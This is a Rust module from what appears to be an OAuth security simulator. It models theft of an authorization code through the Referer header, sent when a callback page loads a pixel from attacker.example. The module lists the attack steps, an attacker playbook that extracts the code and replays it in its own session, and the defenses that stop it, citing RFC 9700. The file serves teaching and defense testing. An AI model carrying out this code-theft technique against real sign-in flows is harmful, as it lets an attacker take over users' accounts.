//! `referer-leak`: the client's callback page embeds a third-party resource; the
//! browser sends the callback URL, code included, in `Referer`, and the third party
//! injects the code into its own session (RFC 9700 §4.2).

use crate::actors::Defenses;
use crate::actors::defenses::DefenseId;
use crate::actors::well_known as wk;
use crate::attacks::attacker::{Attacker, Kit, Moves, Playbook};
use crate::attacks::setup::*;
use crate::attacks::{Attack, AttackInfo, Capability, Stopper};
use crate::protocol::http_wire::{Request, Response};
use crate::sim::Simulation;
use crate::sim::world::{WorldBuilder, alice_signs_in};

pub struct RefererLeak;

static INFO: AttackInfo = AttackInfo {
    id: "referer-leak",
    title: "Code leaked in the Referer header",
    story: "Photo Printer's callback page shows an analytics pixel from attacker.example. Alice's browser is an old \
            one (from before 2020): with no Referrer-Policy from the page, it sends the page's full URL — \
            https://client.example/cb?code=…&state=… — in the Referer header when it loads the pixel (a current \
            browser would send only https://client.example/). The attacker, who has a sign-in of its own waiting \
            at Photo Printer, opens the callback with Alice's code in its own browser.",
    capabilities: &[Capability::WebAttacker],
    setup: "Photo Printer's callback page embeds https://attacker.example/pixel.gif; Alice's browser is a legacy one \
            whose default referrer policy is no-referrer-when-downgrade (today's default, \
            strict-origin-when-cross-origin, sends only the origin).",
    steps: &[
        "Start a sign-in at Photo Printer; stop at the AS (keep the session and its state)",
        "Serve the pixel; read the code from the Referer of Alice's request",
        "Open client.example/cb?code=<Alice's code>&state=<own state> in the attacker's browser",
    ],
    goal: "the attacker's session at Photo Printer shows Alice's photos",
    stoppers: &[
        Stopper {
            defense: DefenseId::ReferrerPolicy,
            why: "Referrer-Policy: no-referrer on the callback page sends no Referer (RFC 9700 §4.2.4)",
            needs: &[],
            with_rest_of_bcp: false,
            fails_the_flow: false,
        },
        Stopper {
            defense: DefenseId::OneTimeCodes,
            why: "the code was already redeemed by the client (RFC 6749 §4.1.2)",
            needs: &[],
            with_rest_of_bcp: false,
            fails_the_flow: false,
        },
        Stopper {
            defense: DefenseId::Pkce,
            why: "the attacker's session verifier does not match Alice's challenge (RFC 9700 §4.2.4)",
            needs: &[],
            with_rest_of_bcp: false,
            fails_the_flow: false,
        },
        Stopper {
            defense: DefenseId::PkceRequired,
            why: "without PKCE at the client the AS grants no code at all",
            needs: &[],
            with_rest_of_bcp: false,
            fails_the_flow: true,
        },
        Stopper {
            defense: DefenseId::Nonce,
            why: "the ID token's nonce is Alice's, not the attacker session's",
            needs: &[],
            with_rest_of_bcp: false,
            fails_the_flow: false,
        },
    ],
    references: "RFC 9700 §4.2; RFC 6749 §4.1.2",
};

#[derive(Default)]
struct Pixel {
    own: OwnSession,
}

impl Playbook for Pixel {
    fn on_observed(&mut self, _kit: &mut Kit, ctx: &mut Moves<'_, '_>, wire: &str) {
        if let Some(url) = request_url(wire) {
            self.own.remember(&url);
            ctx.note(format!("Attacker: stopped its own sign-in at the AS; its session at the client waits with {}.", own_values_in(&url)));
        }
    }

    fn on_request(
        &mut self,
        kit: &mut Kit,
        ctx: &mut Moves<'_, '_>,
        req: &Request,
    ) -> Option<Response> {
        let (code, iss) = code_in_referer(req)?;
        self.own.inject(kit, ctx, &code, iss.as_deref());
        None
    }
}

impl Attack for RefererLeak {
    fn info(&self) -> &'static AttackInfo {
        &INFO
    }

    fn build_world(&self, seed: u64, defenses: Defenses) -> Simulation {
        let mut w = WorldBuilder::standard(seed, defenses);
        w.client.callback_page_third_party = Some(format!("{ATTACKER_ORIGIN}/pixel.gif"));
        let mut sim = w.build();
        sim.add_actor(Box::new(Attacker::new(
            ATTACKER,
            "Attacker (attacker.example)",
            &[ATTACKER_ORIGIN],
            Pixel::default(),
        )));
        alice_uses_a_legacy_browser(&mut sim);
        stop_own_sign_in_at_as(&mut sim, ATTACKER, &format!("{}/login", wk::CLIENT_ORIGIN));
        sim.push_script(alice_signs_in());
        sim
    }

    fn goal(&self, sim: &Simulation) -> Option<String> {
        attacker_session_shows_alice(sim)
    }
}

pub static ATTACK: RefererLeak = RefererLeak;
